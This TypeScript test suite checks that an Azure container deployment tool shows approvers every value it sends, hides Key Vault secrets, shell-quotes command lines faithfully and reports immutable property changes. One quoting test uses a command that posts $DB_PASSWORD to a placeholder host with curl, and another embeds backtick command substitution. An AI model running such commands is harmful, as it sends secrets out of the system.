/**
 * What an approver sees of a plan is everything the PUT sends (secure values as Key Vault
 * references only), and ACI's immutable properties are compared the way ARM refuses them.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommandLine } from '../../../../src/core/commands/aci/values.ts';
import type { ContainerGroupView } from '../../../../src/core/deploy/container-group.ts';
import { toContainerGroupSpec } from '../../../../src/core/deploy/container-spec.ts';
import { deployCard, planOnCard } from '../../../../src/core/deploy/deploy-card.ts';
import type { DeployPlan, DeployRequest } from '../../../../src/core/deploy/deploy-job.ts';
import { describeChange, immutableChanges } from '../../../../src/core/deploy/immutable-changes.ts';
import { makePlan } from '../../../../src/core/deploy/plan.ts';
import { describePlan, itemsForCard, planFileText, shellJoin } from '../../../../src/core/deploy/plan-view.ts';
import { deployJobData, webRequest } from '../../../fakes/index.ts';

const SEED = 0x91a4;
const digest = `sha256:${'c'.repeat(64)}`;
const secretValue = 'S3cret-value-never-shown';
const pullPassword = 'pull-password-never-shown';
const identity = '/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg-id/providers/Microsoft.ManagedIdentity/userAssignedIdentities/pull';
const subnetId = '/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/aci';

const word = fc.stringMatching(/^[A-Za-z0-9 $._\-/:=@%+,;&<>"()*|!?#~^[\]{}]{1,24}$/);
const envName = fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,11}$/);
const request: fc.Arbitrary<DeployRequest> = fc
  .record({
    name: fc.stringMatching(/^[a-z][a-z0-9]{0,10}$/),
    cpu: fc.constantFrom(0.5, 1, 1.5, 2, 4),
    memoryInGB: fc.constantFrom(0.5, 1.5, 3, 7.5),
    ports: fc.uniqueArray(fc.integer({ min: 1, max: 65535 }), { minLength: 1, maxLength: 4 }),
    protocol: fc.constantFrom('TCP' as const, 'UDP' as const),
    network: fc.constantFrom('none', 'public', 'label', 'private'),
    restartPolicy: fc.constantFrom('Always' as const, 'Never' as const, 'OnFailure' as const),
    plain: fc.uniqueArray(fc.record({ name: envName, value: word }), { selector: (v) => v.name, maxLength: 5 }),
    secure: fc.uniqueArray(fc.record({ name: envName.map((n) => `S_${n}`), secretName: fc.stringMatching(/^[a-z][a-z0-9-]{0,15}$/) }), {
      selector: (v) => v.name,
      maxLength: 3,
    }),
    commandLine: fc.option(fc.array(word, { minLength: 1, maxLength: 6 }), { nil: undefined }),
  })
  .map((r) => ({
    name: r.name,
    image: { repository: 'web', tag: 'v1', text: 'web:v1' },
    cpu: r.cpu,
    memoryInGB: r.memoryInGB,
    ports: r.ports,
    protocol: r.protocol,
    ...(r.network === 'public' || r.network === 'label'
      ? { ipAddress: 'Public' as const }
      : r.network === 'private'
        ? { ipAddress: 'Private' as const, subnet: subnetId }
        : {}),
    ...(r.network === 'label' && { dnsNameLabel: `${r.name}-label` }),
    restartPolicy: r.restartPolicy,
    environmentVariables: r.plain,
    secureEnvironmentVariables: r.secure,
    ...(r.commandLine && { commandLine: r.commandLine }),
  }));
const pull: fc.Arbitrary<DeployPlan['pull']> = fc.constantFrom(
  { identity },
  { username: '00000000-aaaa-4bbb-8ccc-000000000001', passwordSecret: 'acr-pull' },
  { none: true as const },
);

/** Every string and number in the PUT body, except the secrets read from Key Vault. */
function sentValues(plan: DeployPlan): string[] {
  const secrets = { env: new Map(plan.secureEnvironmentVariables.map((v) => [v.name, secretValue])), pullPassword };
  const out: string[] = [];
  const walk = (v: unknown): void => {
    if (typeof v === 'string' || typeof v === 'number') out.push(String(v));
    else if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') Object.values(v).forEach(walk);
  };
  walk(toContainerGroupSpec(plan, secrets));
  return out.filter((v) => v !== secretValue && v !== pullPassword);
}

describe('the plan an approver sees', () => {
  it(`shows every value the PUT sends, and no secret (seed ${SEED})`, () => {
    fc.assert(
      fc.property(request, pull, (req, how) => {
        const data = deployJobData(req);
        const plan = makePlan(data, { loginServer: 'contosoprod.azurecr.io', digest }, how);
        const file = planFileText(describePlan(plan), 'heading');
        const withCommandAsWords = `${file}\n${plan.commandLine?.join('\n') ?? ''}`;
        for (const value of sentValues(plan)) {
          // Command words are shown shell-quoted; the round trip below proves that reads back exactly.
          expect(plan.commandLine?.includes(value) ? withCommandAsWords : file).toContain(value);
        }
        if (plan.commandLine) expect(parseCommandLine(shellJoin(plan.commandLine), '')).toEqual(plan.commandLine);
        const shown = planOnCard({ ...data, progress: { phase: 'ready', plan } }, plan);
        const card = JSON.stringify(
          deployCard({ ...data, progress: { phase: 'ready', plan } }, { status: 'awaiting_approval', portal: 'https://portal.azure.com' }),
        );
        if (shown.complete) {
          const fields = shown.fields.map((f) => f.value).join('\n');
          for (const value of sentValues(plan).filter((v) => !plan.commandLine?.includes(v))) expect(fields).toContain(value);
        }
        expect(file).not.toContain(secretValue);
        expect(card).not.toContain(secretValue);
        expect(card).not.toContain(pullPassword);
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it('reads a command line back exactly as the container gets it', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom(...`ab c'"\\$&<>;|\`*\n\t!é’“`.split('')), maxLength: 12 }), { minLength: 1, maxLength: 5 }),
        (words) => {
          expect(parseCommandLine(shellJoin(words), '')).toEqual(words);
        },
      ),
      { seed: SEED, numRuns: 500 },
    );
    expect(shellJoin(['sh', '-c', 'curl -d $DB_PASSWORD https://x'])).toBe("sh -c 'curl -d $DB_PASSWORD https://x'");
  });

  it('sends what does not fit a card field verbatim to the plan file, and says so on the card', () => {
    const planOf = (r: Partial<DeployRequest>) =>
      describePlan(makePlan(deployJobData({ ...webRequest, ...r }), { loginServer: 'r.azurecr.io', digest }, { none: true }));
    expect(itemsForCard(planOf({}), 'f.txt').complete).toBe(true);
    // A backtick cannot be shown inside a code span without changing it.
    const tick = itemsForCard(planOf({ commandLine: ['sh', '-c', 'echo `id`'] }), 'plan.txt');
    expect(tick.complete).toBe(false);
    expect(tick.items.find((i) => i.label === 'Command line')!.lines[0]).toContain('see the attached plan.txt');
    const many = itemsForCard(
      planOf({ environmentVariables: Array.from({ length: 120 }, (_, i) => ({ name: `VAR_${i}`, value: `value-${i}-${'x'.repeat(20)}` })) }),
      'plan.txt',
    );
    expect(many.complete).toBe(false);
    expect(many.items.find((i) => i.label === 'Environment variables')!.lines[0]).toMatch(/^120 lines, \d+ characters: see the attached plan\.txt$/);
    expect(many.items.find((i) => i.label === 'Plan')!.lines[0]).toMatch(/^[0-9a-f]{16}$/);
  });
});

describe('immutable properties', () => {
  const live: ContainerGroupView = {
    name: 'web',
    ports: [],
    events: [],
    containers: [{ name: 'web', image: 'x', cpu: 1, memoryInGB: 1.5 }],
    osType: 'Linux',
    restartPolicy: 'Always',
    ipAddressType: 'Public',
  };
  const plan = { target: { name: 'web' }, cpu: 1, memoryInGB: 1.5, restartPolicy: 'Always' as const, ipAddress: 'Public' as const };

  it('finds nothing to replace when only what ACI updates in place changes', () => {
    expect(immutableChanges(live, plan)).toEqual([]);
    expect(immutableChanges({ ...live, restartPolicy: 'always' }, plan)).toEqual([]);
  });

  it('names each property ACI cannot change in place, old → new, omissions included', () => {
    const changes = immutableChanges(
      {
        ...live,
        osType: 'Windows',
        restartPolicy: undefined,
        containers: [
          { name: 'web', image: 'x', cpu: 1, memoryInGB: 1.5, gpu: '1 V100' },
          { name: 'sidecar', image: 'y', cpu: 0.5, memoryInGB: 1 },
        ],
      },
      { ...plan, cpu: 2, memoryInGB: 3, restartPolicy: 'OnFailure', ipAddress: 'Private', subnet: subnetId },
    ).map(describeChange);
    expect(changes).toEqual([
      'OS type: Windows → Linux',
      'CPU: 1 → 2',
      'memory: 1.5 GB → 3 GB',
      'GPU: 1 V100 → none',
      'container sidecar: 0.5 CPU · 1 GB → removed',
      'restart policy: Always → OnFailure',
      'IP address: public → private',
      'subnet: none → vnet/subnets/aci',
    ]);
    expect(immutableChanges(live, { target: { name: 'web' }, cpu: 1, memoryInGB: 1.5, restartPolicy: 'Always' }).map(describeChange)).toEqual([
      'IP address: public → none',
    ]);
  });
});
